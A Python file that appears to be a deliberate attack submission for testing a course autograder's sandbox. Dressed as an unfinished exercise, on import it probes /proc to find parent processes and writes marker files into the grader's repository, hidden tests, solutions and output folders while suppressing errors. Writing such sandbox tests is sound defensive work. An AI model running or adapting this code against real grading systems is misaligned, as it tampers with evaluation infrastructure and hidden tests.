"""ATTACK write_outside (kind: writing outside the sandbox).

What it tries: leave files wherever the grader's user may write, to show that a submission can change the
machine it is graded on:

* overwrite any ``canary.txt`` / ``.canary`` in the folders around every path it can learn (its own file,
  the current directory, the working directories and command-line paths of its parent processes, ``$PWD``,
  ``$OLDPWD``), up to five levels up;
* drop ``atk_write_outside.txt`` into the instructor's repository (root, ``tests/``, ``tests/hidden/``,
  ``solutions/``, ``grader/``, ``llm_basics/``, ``exercises/``), into the batch's OUT folder (``--out``),
  into the submission's own folder, and ``/tmp/atk-write_outside-<pid>.txt``.

Why it must fail under the new design: the worker may write only its private temporary folder (Landlock);
every other write is refused by the kernel.
"""

from __future__ import annotations

import os
import sys
import time
from typing import Callable, Sequence

import torch

from llm_basics.model import ModelConfig

TAG = "atk-write_outside"
NOTE = f"written by {TAG}\n"
CANARIES = ("canary.txt", ".canary")


def _ancestors():
    pid = os.getpid()
    for _ in range(12):
        try:
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            return
        if pid <= 1:
            return
        yield pid


def _cmdline(pid: int) -> list[str]:
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            return [a.decode(errors="replace") for a in f.read().split(b"\0") if a]
    except OSError:
        return []


def _write(path: str) -> None:
    try:
        with open(path, "w") as f:
            f.write(NOTE)
    except OSError:
        pass


def _anchors() -> list[str]:
    anchors = [os.path.abspath(__file__), os.getcwd(), os.environ.get("PWD", ""), os.environ.get("OLDPWD", "")]
    for pid in _ancestors():
        try:
            cwd = os.readlink(f"/proc/{pid}/cwd")
        except OSError:
            continue
        anchors.append(cwd)
        anchors += [os.path.join(cwd, a) for a in _cmdline(pid) if "/" in a and not a.startswith("-")]
    return [a for a in anchors if a]


def _overwrite_canaries() -> None:
    for anchor in _anchors():
        folder = anchor if os.path.isdir(anchor) else os.path.dirname(anchor)
        for _ in range(5):
            for name in CANARIES:
                if os.path.isfile(os.path.join(folder, name)):
                    _write(os.path.join(folder, name))
            folder = os.path.dirname(folder)


def _repositories() -> list[str]:
    roots = []
    for name in ("grader", "grader.grading", "grader.judge.plugin", "llm_basics"):
        path = getattr(sys.modules.get(name), "__file__", None)
        if path:
            root = os.path.dirname(os.path.dirname(os.path.abspath(path)))
            if os.path.isdir(os.path.join(root, "tests")) and root not in roots:
                roots.append(root)
    return roots


def _drop_files() -> None:
    marker = "atk_write_outside.txt"
    for root in _repositories():
        for sub in ("", "tests", os.path.join("tests", "hidden"), "solutions", "grader", "llm_basics", "exercises"):
            if os.path.isdir(os.path.join(root, sub)):
                _write(os.path.join(root, sub, marker))
    for pid in _ancestors():
        args = _cmdline(pid)
        for flag, value in zip(args, args[1:]):
            if flag == "--out":
                try:
                    _write(os.path.join(os.readlink(f"/proc/{pid}/cwd"), value, marker))
                except OSError:
                    pass
    _write(os.path.join(os.path.dirname(os.path.abspath(__file__)), marker))
    _write(f"/tmp/{TAG}-{os.getpid()}.txt")


try:
    _overwrite_canaries()
    _drop_files()
except Exception:
    pass


# ---------------------------------------------------------------------------------------------------------
# The untouched exercise (nothing implemented)
# ---------------------------------------------------------------------------------------------------------


def time_forward(fn: Callable[[], object], *, warmup: int = 2, repeats: int = 5,
                 clock: Callable[[], float] = time.perf_counter) -> dict:
    raise NotImplementedError("ex4: warm up without timing, then time each call")


def fit_power_law(xs: Sequence[float], ys: Sequence[float]) -> tuple[float, float]:
    raise NotImplementedError("ex4: least squares in log-log space")


def block_flops(cfg: ModelConfig, seq_len: int, batch: int = 1) -> dict:
    raise NotImplementedError("ex4: projections, attention, ffn, linear, quadratic, total")


def measured_flops(block: torch.nn.Module, seq_len: int, batch: int = 1) -> int:
    raise NotImplementedError("ex4: run block(x) inside FlopCounterMode")


def crossover_length(cfg: ModelConfig) -> int:
    raise NotImplementedError("ex4: the T where 4*T*T*d == 8*T*d*d + 4*T*d*d_ff")


def scaling_run(cfg: ModelConfig, seq_lens: Sequence[int], *, batch: int = 1, warmup: int = 1, repeats: int = 3,
                clock: Callable[[], float] = time.perf_counter) -> list[dict]:
    raise NotImplementedError("ex4: time and count one block per length")


def save_scaling_plot(path, cfg=None, seq_lens=None, *, batch=1, warmup=2, repeats=5):
    raise NotImplementedError("ex4: the plot needs the functions above")
